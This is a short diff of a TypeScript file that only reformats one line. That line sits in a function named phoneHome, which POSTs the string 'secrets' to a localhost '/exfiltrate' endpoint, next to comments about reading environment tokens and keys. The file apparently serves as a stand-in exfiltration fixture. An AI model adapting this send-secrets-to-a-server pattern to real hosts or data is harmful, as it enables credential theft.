@@ -8,7 +8,8 @@ export function readSecrets(): string {
 
 /** Sends what it found to a server. */
 export async function phoneHome(): Promise<number> {
-  return (await fetch("http://127.0.0.1:8080/exfiltrate", { method: "POST", body: "secrets" })).status;
+  return (await fetch("http://127.0.0.1:8080/exfiltrate", { method: "POST", body: "secrets" }))
+    .status;
 }
 
 /** Reads the host's environment: tokens, keys. */
